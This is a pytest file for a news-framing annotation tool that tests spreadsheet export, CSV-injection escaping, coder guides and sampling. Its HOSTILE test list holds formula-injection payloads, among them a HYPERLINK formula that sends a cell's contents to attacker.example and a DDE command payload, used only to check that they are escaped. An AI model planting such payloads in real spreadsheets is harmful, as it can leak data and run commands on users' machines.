"""Coding sheets: sampling, CSV/XLSX export, formula escaping (CSV injection), the guide."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from classify_samples import FRAMES, LEXICON_YAML, build_corpus, lexicon
from openpyxl import load_workbook
from typer.testing import CliRunner

from framing.classify.sampling import (
    allocate,
    stratified_sample,
    uncertainty_sample,
    uncertainty_scores,
)
from framing.classify.sheets import (
    coding_sheet,
    escape_cell,
    guide_html,
    guide_markdown,
    unescape_cell,
    write_coding_sheets,
    write_sheet_csv,
    write_sheet_xlsx,
)
from framing.cli import app

# Passages that a spreadsheet would run as formulas if written as they are.
HOSTILE = [
    ('=HYPERLINK("http://attacker.example/?"&A1,"click")', "en"),
    ("+33 6 12 34 56 78: le numéro du porte-parole a été diffusé.", "fr"),
    ("-- Des militants affirment avoir été surveillés.", "fr"),
    ("@cmd|' /C calc'!A0", "en"),
    ("\tRabat hosted the Interpol general assembly.", "en"),
    ("\rThe meeting ended late.", "en"),
    ("=1+1 هو عنوان المقال الساخر", "ar"),
]


@pytest.fixture(scope="module")
def corpus_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    directory = tmp_path_factory.mktemp("corpus")
    build_corpus(directory)
    return directory


def _passages(texts: list[tuple[str, str]]) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "passage_id": [f"p{i}" for i in range(len(texts))],
            "doc_id": [f"d{i}" for i in range(len(texts))],
            "outlet": ["le-courrier"] * len(texts),
            "language": [lang for _, lang in texts],
            "text": [text for text, _ in texts],
        }
    )


# -- escaping -----------------------------------------------------------------------------


@pytest.mark.parametrize("text", [t for t, _ in HOSTILE])
def test_formula_text_is_escaped_and_restored(text: str) -> None:
    escaped = escape_cell(text)
    assert escaped == "'" + text
    assert unescape_cell(escaped) == text


def test_ordinary_text_is_left_alone() -> None:
    for text in ("Rabat hosts Interpol.", "'quoted' on purpose", "المغرب يستضيف الإنتربول", ""):
        assert escape_cell(text) == text
        assert unescape_cell(text) == text


def test_csv_sheet_escapes_every_formula_cell(tmp_path: Path) -> None:
    sheet = coding_sheet(_passages(HOSTILE), FRAMES)
    sheet.loc[0, "doc_id"] = "=cmd()"  # ids and outlets are escaped too
    path = write_sheet_csv(sheet, tmp_path / "sheet.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the file as UTF-8 (Arabic)
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    header, body = rows[0], rows[1:]
    assert header == [
        "passage_id",
        "doc_id",
        "outlet",
        "language",
        "text",
        *FRAMES,
        "notes",
        "coder",
    ]
    cells = [cell for row in body for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    texts = [row[header.index("text")] for row in body]
    assert texts == ["'" + t for t, _ in HOSTILE]
    assert body[0][1] == "'=cmd()"
    assert "=1+1 هو عنوان المقال الساخر" in texts[-1]


def test_xlsx_sheet_has_no_formula_cells_and_is_rtl_for_arabic(tmp_path: Path) -> None:
    texts = [*HOSTILE, ("تعاون أمني بين المغرب وإسبانيا", "ar")]
    sheet = coding_sheet(_passages(texts), FRAMES)
    path = write_sheet_xlsx(sheet, tmp_path / "sheet.xlsx", FRAMES)
    ws = load_workbook(path, data_only=False)["coding"]
    header = [c.value for c in ws[1]]
    text_col = header.index("text") + 1
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", f"formula cell {cell.coordinate}"
    values = [ws.cell(row=r, column=text_col).value for r in range(2, len(texts) + 2)]
    assert values[: len(HOSTILE)] == ["'" + t for t, _ in HOSTILE]
    arabic = ws.cell(row=len(texts) + 1, column=text_col).alignment
    english = ws.cell(row=2, column=text_col).alignment
    assert arabic.horizontal == "right" and arabic.readingOrder == 2
    assert english.horizontal != "right"
    # Frame columns accept only 0 or 1.
    validations = ws.data_validations.dataValidation
    assert len(validations) == 1 and validations[0].formula1 == '"0,1"'
    ranges = {str(r) for r in validations[0].sqref.ranges}
    letters = [ws.cell(row=1, column=header.index(f) + 1).column_letter for f in FRAMES]
    assert ranges == {f"{c}2:{c}{len(texts) + 1}" for c in letters}


# -- the guide ------------------------------------------------------------------------------


def test_guide_lists_frames_and_coding_rules() -> None:
    lex = lexicon()
    markdown = guide_markdown(lex)
    for frame in lex.frames:
        assert f"## {frame.id}: {frame.label}" in markdown
        assert frame.description in markdown
    assert "several frames" in markdown and "not merely because a word" in markdown
    html = guide_html(lex)
    assert html.startswith("<!DOCTYPE html>") and "<script" not in html
    assert "Rights and criticism" in html


def test_write_coding_sheets_one_copy_per_coder(tmp_path: Path) -> None:
    paths = write_coding_sheets(_passages(HOSTILE[:2]), lexicon(), tmp_path / "r1.xlsx", n_coders=3)
    names = sorted(p.name for p in paths)
    assert names == sorted(
        [f"r1_coder{k}.{ext}" for k in (1, 2, 3) for ext in ("csv", "xlsx")]
        + ["r1_guide.md", "r1_guide.html"]
    )
    sheet = pd.read_csv(tmp_path / "r1_coder2.csv", encoding="utf-8-sig", dtype=str)
    assert set(sheet["coder"]) == {"coder2"}


# -- sampling -------------------------------------------------------------------------------


def test_allocation_is_proportional_with_a_minimum_per_cell() -> None:
    counts, notes = allocate([80, 15, 5], 20, min_per_cell=2)
    assert sum(counts) == 20 and counts[2] >= 2 and counts[0] > counts[1] > 0
    assert notes == []
    # A cell smaller than the minimum gives all it has; the rest goes elsewhere.
    assert allocate([50, 1], 10, min_per_cell=3)[0] == [9, 1]
    # More cells than the sample allows: the minimum is lowered, with a note.
    counts, notes = allocate([10] * 6, 4, min_per_cell=2)
    assert sum(counts) == 4 and notes


def test_stratified_sample_covers_every_outlet_and_language(corpus_dir: Path) -> None:
    from framing.corpus.corpus import Corpus

    passages = Corpus.read(corpus_dir).passages_with_documents(("outlet",))
    sample = stratified_sample(passages, 12, min_per_cell=2, seed=3)
    assert len(sample) == 12 and sample["passage_id"].is_unique
    cells = set(zip(passages["outlet"], passages["language"], strict=True))
    assert set(zip(sample["outlet"], sample["language"], strict=True)) == cells
    assert sample["stratum"].value_counts().min() >= 2
    again = stratified_sample(passages, 12, min_per_cell=2, seed=3)
    assert again["passage_id"].tolist() == sample["passage_id"].tolist()
    other = stratified_sample(passages, 12, min_per_cell=2, seed=4)
    assert other["passage_id"].tolist() != sample["passage_id"].tolist()
    excluded = stratified_sample(passages, 40, exclude=sample["passage_id"].tolist())
    assert not set(excluded["passage_id"]) & set(sample["passage_id"])


def test_uncertainty_sample_takes_passages_nearest_the_thresholds() -> None:
    passages = _passages([("a", "en"), ("b", "en"), ("c", "en"), ("d", "en")])
    probability = np.array([[0.95, 0.02], [0.31, 0.9], [0.6, 0.1], [0.5, np.nan]])
    thresholds = np.array([[0.3, 0.5]] * 4)
    sample = uncertainty_sample(passages, probability, thresholds, 2)
    assert sample["passage_id"].tolist() == ["p1", "p3"]  # 0.31 vs 0.3, then 0.5 vs 0.3
    assert uncertainty_sample(passages, probability, thresholds, 2, exclude=["p1"])[
        "passage_id"
    ].tolist() == ["p3", "p2"]
    entropy = uncertainty_scores(probability, thresholds, "entropy")
    assert np.argmax(entropy) == 2  # 0.6 and 0.1: the least certain pair


# -- command line --------------------------------------------------------------------------


def test_cli_export_writes_sheets_and_guide(corpus_dir: Path, tmp_path: Path) -> None:
    (tmp_path / "lex.yaml").write_text(LEXICON_YAML, encoding="utf-8")
    result = CliRunner().invoke(
        app,
        [
            "annotate", "export", str(corpus_dir), "--lexicon", str(tmp_path / "lex.yaml"),
            "-o", str(tmp_path / "round1" / "sheet.xlsx"), "--n", "15", "--coders", "1",
        ],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    sheet = pd.read_csv(tmp_path / "round1" / "sheet.csv", encoding="utf-8-sig", dtype=str)
    assert len(sheet) == 15 and list(sheet.columns[5:8]) == list(FRAMES)
    assert sheet[list(FRAMES)].isna().all().all()  # empty: to fill
    assert (tmp_path / "round1" / "sheet.xlsx").exists()
    assert "Threat and counter-terrorism" in (tmp_path / "round1" / "sheet_guide.md").read_text()


def test_cli_uncertainty_export_needs_a_model(corpus_dir: Path, tmp_path: Path) -> None:
    (tmp_path / "lex.yaml").write_text(LEXICON_YAML, encoding="utf-8")
    result = CliRunner().invoke(
        app,
        [
            "annotate", "export", str(corpus_dir), "--lexicon", str(tmp_path / "lex.yaml"),
            "-o", str(tmp_path / "s.xlsx"), "--strategy", "uncertainty",
        ],
    )  # fmt: skip
    assert result.exit_code != 0
    assert "needs a trained model" in str(result.exception)
